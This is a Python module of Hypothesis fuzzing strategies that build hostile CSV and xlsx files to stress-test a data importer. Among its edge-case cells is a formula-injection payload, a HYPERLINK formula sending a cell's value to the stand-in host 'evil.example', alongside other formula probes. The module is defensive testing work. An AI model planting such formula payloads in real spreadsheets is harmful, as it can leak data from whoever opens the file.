"""Hypothesis strategies of hostile import files: random bytes, encodings and BOMs,
separators, huge fields, formula cells, absurd dates, missing and repeated columns, xlsx."""

import csv
import io
import itertools
import os

import openpyxl
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

FUZZ = settings(max_examples=int(os.environ.get("FUZZ_EXAMPLES", 40)),
                deadline=None, derandomize=not os.environ.get("FUZZ_RANDOM"), database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture,
                                       HealthCheck.too_slow, HealthCheck.data_too_large])
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EDGE = ["", " ", FORMULA, "=1+2", "@SUM(A1)", "+7 701", "-0", "0001-01-01", "9999-12-31",
        "2099-01-01", "31.12.2099", "2026-02-30", "00.00.0000", "1e400", "NaN", "Infinity",
        "-5", "0", "12345678901234567890", "99999999999999.999", "ИИН", "Ә ғ қ ң ө ұ ү һ і",
        "😀", "\u200b", "\"quoted\"", "multi\nline", ";", ",", "\t", "x" * 5000]
HUGE = "y" * 150_000  # over the CSV field limit: the whole file is refused, never a crash
ENCODINGS = ["utf-8", "utf-8-sig", "cp1251", "utf-16", "latin-1"]
SEPARATORS = [",", ";", "\t", "|"]
_names = itertools.count()


def cells(valid):
    """A cell: a valid value of the column, an edge case or random text."""
    return st.one_of(valid, st.sampled_from(EDGE), st.text(max_size=20))


@st.composite
def table(draw, columns):
    """(header, rows): the importer's columns (sometimes one missing or repeated, shuffled),
    and 0–8 rows of valid, edge-case or random cells (sometimes a short or long row)."""
    header = list(columns)
    header = draw(st.permutations(header))
    change = draw(st.sampled_from(["keep"] * 6 + ["drop", "repeat", "upper"]))
    if change == "drop":
        header = header[1:]
    elif change == "repeat":
        header = [*header, header[0]]
    elif change == "upper":
        header = [h.upper() for h in header]
    rows = []
    for _ in range(draw(st.integers(0, 8))):
        row = [draw(cells(columns.get(name.lower(), st.just("")))) for name in header]
        width = draw(st.sampled_from(["same"] * 8 + ["short", "long"]))
        if width == "short":
            row = row[:-1]
        elif width == "long":
            row = [*row, "extra"]
        rows.append(row)
    if draw(st.integers(0, 20)) == 0:
        rows.append([HUGE] * len(header))
    return header, rows


def as_csv(header, rows, *, separator, encoding):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=separator, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding, errors="replace")


def as_xlsx(header, rows):
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append(header)
    for row in rows:
        # the formula cell goes in as a formula, the rest as text (openpyxl strips \x00…)
        sheet.append([v if v == FORMULA else "".join(ch for ch in v if ch >= " " or ch in
                                                      "\t\n") for v in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@st.composite
def import_file(draw, columns):
    """The bytes of a hostile file for an importer whose ``columns`` map to valid values."""
    kind = draw(st.sampled_from(["csv"] * 6 + ["xlsx", "bytes", "zip-like", "empty"]))
    if kind == "bytes":
        return draw(st.binary(min_size=1, max_size=300))
    if kind == "zip-like":
        return b"PK\x03\x04" + draw(st.binary(max_size=100))
    if kind == "empty":
        return draw(st.sampled_from([b"\n", b"\xef\xbb\xbf", b" \r\n"]))
    header, rows = draw(table(columns))
    if kind == "xlsx":
        return as_xlsx(header, rows)
    return as_csv(header, rows, separator=draw(st.sampled_from(SEPARATORS)),
                  encoding=draw(st.sampled_from(ENCODINGS)))


def write(tmp_path, content, suffix=".csv"):
    path = tmp_path / f"fuzz-{next(_names)}{suffix}"
    path.write_bytes(content)
    return path
